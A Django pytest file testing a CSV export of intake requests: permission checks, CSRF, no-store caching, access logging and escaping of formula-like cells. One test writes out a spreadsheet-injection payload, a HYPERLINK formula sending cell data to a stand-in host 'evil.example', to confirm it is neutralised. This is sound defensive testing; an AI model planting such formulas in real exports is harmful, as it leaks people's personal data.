"""CSV export: only with the export permission, safe to open in a spreadsheet, and recorded."""

import csv
import io
import re

import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from intake.admin import IntakeRequestAdmin
from intake.export import export_response, neutralise_cell
from intake.models import AccessRecord, IntakeRequest
from tests.auth import sign_in

CHANGELIST = reverse("admin:intake_intakerequest_changelist")
EXPORT = reverse("admin:intake_intakerequest_export")

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def grant_export(user):
    user.user_permissions.add(
        Permission.objects.get(content_type__app_label="intake", codename="export_intakerequest")
    )


@pytest.fixture
def exporter(admissions):
    grant_export(admissions)
    return admissions


def export_selected(client, requests):
    return client.post(
        CHANGELIST,
        {"action": "export_csv", "index": 0, "_selected_action": [r.pk for r in requests]},
    )


def rows_of(response):
    """The CSV's rows as dicts by heading; the text after Excel's byte order mark."""
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_starts_like_a_formula_is_neutralised(start):
    assert neutralise_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Jordan", "", " =1", "1=1", "(614) 555-0142", "R-ABC2345"])
def test_other_cells_are_left_as_they_are(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_exported_file_neutralises_formulas_in_what_the_visitor_typed(
    client, exporter, make_request, start
):
    payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    intake_request = make_request(first_name=payload, message=payload, email=payload)
    sign_in(client, exporter)
    [row] = rows_of(export_selected(client, [intake_request]))
    assert row["name"] == "'" + payload
    assert row["message"] == "'" + payload
    assert row["email"] == "'" + payload


def test_exported_file_holds_the_selected_requests_only(client, exporter, make_request):
    chosen = make_request(first_name="Marisol", phone="+16145550142", message="Please call")
    make_request(first_name="Jordan")
    sign_in(client, exporter)
    response = export_selected(client, [chosen])
    [row] = rows_of(response)
    assert row["reference"] == chosen.reference
    assert row["name"] == "Marisol"
    assert row["phone"] == "(614) 555-0142"
    assert row["message"] == "Please call"
    assert row["status"] == "New"


def test_exported_file_holds_the_handling_times(client, exporter, make_request):
    from datetime import datetime

    from django.utils import timezone

    def local(*args):
        return timezone.make_aware(datetime(*args))

    closed = make_request(
        received_at=local(2026, 11, 2, 9, 0),
        promised_by=local(2026, 11, 2, 10, 0),
        first_contact_at=local(2026, 11, 2, 9, 40),
        status=IntakeRequest.Status.CLOSED,
        closed_at=local(2026, 11, 3, 16, 5),
    )
    sign_in(client, exporter)
    response = client.post(
        CHANGELIST + "?status=closed",
        {"action": "export_csv", "index": 0, "_selected_action": [closed.pk]},
    )
    [row] = rows_of(response)
    assert row["call-back promised by"] == "2026-11-02 10:00"
    assert row["first contact"] == "2026-11-02 09:40"
    assert row["closed"] == "2026-11-03 16:05"
    assert row["next action due"] == ""


def test_export_is_an_uncached_attachment_named_without_personal_data(
    client, exporter, make_request
):
    intake_request = make_request(first_name="Marisol")
    sign_in(client, exporter)
    response = export_selected(client, [intake_request])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="intake-requests-\d{8}-\d{4}\.csv"', disposition)
    assert "Marisol" not in disposition
    assert intake_request.reference not in disposition
    assert "no-store" in response["Cache-Control"]


def test_export_response_forbids_caching_on_its_own(exporter, make_request):
    # Not left to the admin's never_cache: the function may be used elsewhere.
    response = export_response(IntakeRequest.objects.all(), user=exporter)
    assert response["Cache-Control"] == "no-store"


def test_each_exported_request_is_recorded(client, exporter, make_request):
    exported = [make_request(), make_request()]
    make_request()
    sign_in(client, exporter)
    export_selected(client, exported)
    records = set(AccessRecord.objects.values_list("user", "action", "request", "reference"))
    assert records == {
        (exporter.pk, AccessRecord.Action.EXPORT, r.pk, r.reference) for r in exported
    }


def test_export_action_is_offered_only_with_the_export_permission(
    rf, admissions, django_user_model
):
    model_admin = IntakeRequestAdmin(IntakeRequest, admin.site)
    request = rf.get(CHANGELIST)
    request.user = admissions
    assert "export_csv" not in model_admin.get_actions(request)
    grant_export(admissions)
    # A fresh user object: permissions are cached on the one that was checked.
    request.user = django_user_model.objects.get(pk=admissions.pk)
    assert "export_csv" in model_admin.get_actions(request)


def test_admissions_staff_without_the_permission_cannot_export(client, admissions, make_request):
    intake_request = make_request()
    sign_in(client, admissions)
    response = export_selected(client, [intake_request])
    # Back to the list ("No action selected"), not a file.
    assert response.status_code == 302
    assert not response.has_header("Content-Disposition")
    assert "export_csv" not in client.get(CHANGELIST).content.decode()
    assert client.get(EXPORT).status_code == 403
    assert client.post(EXPORT).status_code == 403
    # The list they looked at is recorded; no export is.
    assert not AccessRecord.objects.exclude(action=AccessRecord.Action.LIST).exists()


def test_export_url_exports_what_the_list_shows(client, exporter, make_request):
    open_request = make_request()
    closed = make_request(
        status=IntakeRequest.Status.CLOSED, close_reason=IntakeRequest.CloseReason.SPAM
    )
    sign_in(client, exporter)
    assert [row["reference"] for row in rows_of(client.post(EXPORT))] == [open_request.reference]
    response = client.post(f"{EXPORT}?status=closed")
    assert [row["reference"] for row in rows_of(response)] == [closed.reference]
    assert AccessRecord.objects.filter(action=AccessRecord.Action.EXPORT).count() == 2


def test_export_url_needs_a_post_with_the_csrf_token(exporter, make_request):
    make_request()
    client = Client(enforce_csrf_checks=True)
    sign_in(client, exporter)
    assert client.get(EXPORT).status_code == 405
    assert client.post(EXPORT).status_code == 403
    assert not AccessRecord.objects.exists()


def test_list_offers_the_export_button_only_with_the_permission(client, admissions):
    sign_in(client, admissions)
    assert f'action="{EXPORT}' not in client.get(CHANGELIST).content.decode()
    grant_export(admissions)
    assert f'action="{EXPORT}' in client.get(CHANGELIST).content.decode()
